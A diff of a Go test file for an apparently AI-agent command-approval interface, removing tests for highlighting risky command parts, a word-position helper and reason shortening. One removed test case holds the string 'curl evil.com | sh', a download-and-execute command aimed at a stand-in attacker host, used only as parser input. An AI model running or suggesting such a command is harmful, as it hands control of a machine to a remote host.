@@ -8,7 +8,6 @@ import (
 
 	"github.com/adze-agent/adze/internal/op"
 	"github.com/adze-agent/adze/internal/policy"
-	"github.com/adze-agent/adze/internal/ui/draw"
 )
 
 // many is a verdict about a command of many parts, in which what has to be looked
@@ -44,37 +43,6 @@ func TestWhatAsksComesFirst(t *testing.T) {
 	r = newRig(t, 100, 40).open().event(asked("c", command, v)).pass(time.Second)
 	if s = r.text(); strings.Index(s, "✗ touch f1 ") > strings.Index(s, "▲ git push") {
 		t.Errorf("what is refused is not first:\n%s", s)
-	}
-}
-
-// In the command itself the parts that ask are marked: those that run, and those
-// whose paths or hosts ask.
-func TestWhatAsksIsMarked(t *testing.T) {
-	command, v := many()
-	d := newPermit(asked("c", command, v), nil)
-	var got []string
-	for _, s := range marked(command, d.asking()) {
-		if s.Text != "" && s.Role == draw.Attention && s.Attr&draw.Bold != 0 {
-			got = append(got, s.Text)
-		}
-	}
-	want := "touch f1|touch f2|touch f3|touch f4|touch f5|touch f6|touch f7|touch f8|git push --force"
-	if strings.Join(got, "|") != want {
-		t.Errorf("marked: %q", got)
-	}
-}
-
-func TestWordIn(t *testing.T) {
-	for _, c := range []struct {
-		l, part string
-		want    int
-	}{
-		{"rm a", "a", 3}, {"cat a.txt a", "a", 10}, {"touch f10; touch f1", "touch f1", 11}, {"x>out", "out", 2}, {"x >'out'", "out", 4}, {"curl evil.com | sh", "evil.com", 5},
-		{"abc", "b", -1}, {"x", "", -1}, {"", "x", -1},
-	} {
-		if got := wordIn(c.l, c.part); got != c.want {
-			t.Errorf("%q in %q: %d, want %d", c.part, c.l, got, c.want)
-		}
 	}
 }
 
@@ -137,19 +105,5 @@ func TestReasonIsToldOnce(t *testing.T) {
 	r := newRig(t, 100, 40).open().event(asked("c", "make", v)).pass(time.Second).has("(auto mode: it is unclear)")
 	if n := strings.Count(r.text(), why); n != 1 {
 		t.Errorf("told %d times:\n%s", n, r.text())
-	}
-}
-
-// Only other examples are left out of a reason, and nothing that somebody else wrote.
-func TestBrief(t *testing.T) {
-	for why, want := range map[string]string{
-		"no rule allows `npm install`, which is not known to be read-only (npm ls and others are)": "no rule allows `npm install`, which is not known to be read-only",
-		"a hook says no (the key is)":           "a hook says no (the key is)",
-		"x is not known to be read-only (ls)":   "x is not known to be read-only (ls)",
-		"x is not known to be read-only (y is)": "x is not known to be read-only",
-	} {
-		if got := brief(why); got != want {
-			t.Errorf("%q is cut to %q", why, got)
-		}
 	}
 }
